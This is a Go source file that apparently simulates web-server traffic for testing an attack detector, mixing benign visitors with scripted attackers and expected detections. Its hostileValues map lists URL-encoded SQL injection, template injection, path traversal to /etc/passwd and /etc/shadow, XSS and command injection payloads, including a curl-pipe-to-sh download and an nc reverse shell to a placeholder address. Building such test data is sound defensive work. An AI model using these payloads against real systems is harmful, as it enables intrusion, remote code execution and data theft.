package traffic

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"
)

// endpoint is a page that takes a parameter.
type endpoint struct {
	path, param string
	value       func(rng *rand.Rand) string // as honest people send it
}

func number(below int) func(*rand.Rand) string {
	return func(rng *rand.Rand) string { return fmt.Sprint(1 + rng.IntN(below)) }
}

func word(of ...string) func(*rand.Rand) string {
	return func(rng *rand.Rand) string { return pick(rng, of) }
}

// endpoints are the site's applications.
var endpoints = []endpoint{
	{"/tickets/view", "no", number(4_000)}, {"/events/list", "month", word("2025-09", "2025-10", "2025-11", "2025-12")}, {"/gallery/show", "album", word("roastery", "harvest", "team", "latte-art")},
	{"/jobs/detail", "ref", number(90)}, {"/forum/topic", "t", number(2_500)}, {"/download", "file", word("catalogue.pdf", "prices.pdf", "terms.pdf")}, {"/api/v2/stock", "sku", number(800)},
	{"/newsletter/show", "issue", number(60)}, {"/stores/near", "zip", number(99_999)}, {"/reviews", "item", number(60)}, {"/compare", "ids", word("1,2", "4,9", "12,13,14")}, {"/greeting", "name", word("Ana", "Jörg", "Li", "Zoë")},
}

// Applications are people who use the endpoints, each all day.
func Applications(w *World) {
	rng := w.Rand("applications")
	population := w.Scaled(6_000)
	w.claimHomes(population)
	w.Arrivals(Rhythm{Peak: 12 + 30*w.cfg.Scale}, rng, func(w *World) {
		p, e := household(rng.IntN(population)), pick(rng, endpoints)
		w.Hit(&Hit{Src: p.addr, Target: e.path + "?" + e.param + "=" + e.value(rng), Status: 200, Bytes: 5_000 + rng.IntN(900), Referer: origin + "/", Agent: p.agent})
	})
}

// hostileValues by class, from a touch to the deed.
var hostileValues = map[string][]string{
	"sqli": {`1'`, `1%22`, `1%27%20AND%20%271%27=%271`, `1%27%20AND%20%271%27=%272`, `1)%20ORDER%20BY%208--`, `1%20UNION%20SELECT%20NULL,NULL--%20-`, `1%20UNION%20ALL%20SELECT%20login,hash%20FROM%20members--`, `1%20AND%20SLEEP(4)`,
		`1;WAITFOR%20DELAY%20%270:0:4%27--`, `1%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,version()))`},
	"ssti": {`%7B%7B7*7%7D%7D`, `$%7B7*7%7D`, `%3C%25=7*7%25%3E`, `%7B%7Bconfig%7D%7D`, `%7B%7Bself.__init__.__globals__%7D%7D`, `%7B%7B%27%27.__class__.__mro__[1].__subclasses__()%7D%7D`},
	"lfi":  {`../../etc/passwd`, `..%2f..%2f..%2fetc%2fpasswd`, `....//....//....//etc/passwd`, `php://filter/convert.base64-encode/resource=index.php`, `/proc/self/environ`, `..%252f..%252f..%252fetc%252fshadow`, `file:///etc/hosts`},
	"rce":  {`;id`, `|cat%20/etc/passwd`, `$(whoami)`, "%60uname%20-a%60", `;curl%20http://203.0.113.250/x.sh|sh`, `%26%26%20wget%20http://203.0.113.250/b`, `;nc%20-e%20/bin/sh%20203.0.113.250%204444`},
	"xss":  {`%3Cscript%3Ealert(1)%3C/script%3E`, `%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E`, `%3Csvg/onload=confirm(1)%3E`, `javascript:alert(document.cookie)`, `%27-alert(1)-%27`, `%3Ciframe%20src=javascript:alert(1)%3E`},
}

// classes in an order of their own; hostileValues has none.
var classes = []string{"sqli", "ssti", "lfi", "rce", "xss"}

// Flip is one address that works on one parameter until the endpoint breaks.
type Flip struct {
	Attack   string
	Source   netip.Addr
	Endpoint int    // of endpoints
	Class    string // of hostileValues
	Start    time.Time
	Silent   bool // the endpoint bears it
}

// Part plays it. What the values of the last two thirds do, the server does not survive.
func (f Flip) Part(w *World) {
	at, e := At(f.Start), endpoints[f.Endpoint%len(endpoints)]
	w.Truth.Claim(f.Source.String(), Hostile, "someone working on "+e.path, f.Attack)
	rng := w.Rand(f.Attack)
	values := hostileValues[f.Class]
	for i := range 2 * len(values) {
		hit := Hit{Src: f.Source, Target: e.path + "?" + e.param + "=" + values[i/2], Status: 200, Bytes: 5_310, Agent: attackBrowser}
		if i >= len(values)*2/3 && !f.Silent {
			hit.Status, hit.Bytes = 500, 612
		}
		w.Once(at, func(w *World) { w.Hit(&hit) })
		at = at.Add(between(rng, 20*time.Second, 3*time.Minute))
	}
	expect := Expect{Attack: f.Attack, Kind: f.Class, Sources: []string{f.Source.String()}, SeverityMin: "critical", Ban: "planned|held", Start: f.Start, End: at.Time(),
		Detections: []string{"injection"}, Targets: []string{e.path}, MustSay: []string{f.Source.String(), e.path}, MustNotAccuse: []string{"all others"}}
	if f.Silent {
		expect.SeverityMin, expect.Detections = "low", []string{"injection", "scan"}
	}
	w.Truth.Expect(expect)
}

// Flips are as many as there are endpoints, of every class.
func Flips(first int, start time.Time, gap time.Duration) []Part {
	var parts []Part
	for i := range endpoints {
		f := Flip{Attack: fmt.Sprintf("flip-%02d", i), Source: foreign(first + i), Endpoint: i, Class: classes[i%4], Start: start.Add(time.Duration(i) * gap)}
		parts = append(parts, f.Part)
	}
	return parts
}

// Fuzzing is one address that tries one hostile value on many parameters of one
// page, of which a single one breaks.
func Fuzzing(start time.Time, source netip.Addr, params int) Part {
	const attack, path = "fuzzing", "/tickets/search"
	return func(w *World) {
		w.Truth.Claim(source.String(), Hostile, "a fuzzer", attack)
		broken := fmt.Sprintf("f%02d", params*2/3)
		w.Truth.Expect(Expect{Attack: attack, Kind: "flip", Sources: []string{source.String()}, SeverityMin: "critical", Ban: "planned|held", Start: start,
			Detections: []string{"injection"}, Targets: []string{path}, MustSay: []string{path, broken}, MustNotAccuse: []string{"all others"}})
		w.claimHomes(2_000)
		rng, people := w.Rand(attack), w.Rand(attack+" people")
		for i := range params {
			name := fmt.Sprintf("f%02d", i)
			w.every(40*time.Minute, .5, people, func(w *World) {
				p := household(people.IntN(2_000))
				w.Hit(&Hit{Src: p.addr, Target: path + "?" + name + "=" + fmt.Sprint(people.IntN(50)), Status: 200, Bytes: 6_100, Referer: origin + "/", Agent: p.agent})
			})
			for k, value := range hostileValues["sqli"][:5] {
				hit := Hit{Src: source, Target: path + "?" + name + "=" + value, Status: 200, Bytes: 6_050, Agent: attackBrowser}
				if name == broken {
					hit.Status, hit.Bytes = 500, 612
				}
				w.Once(At(start).Add(time.Duration(5*i+k)*4*time.Second+between(rng, 0, 2*time.Second)), func(w *World) { w.Hit(&hit) })
			}
		}
	}
}
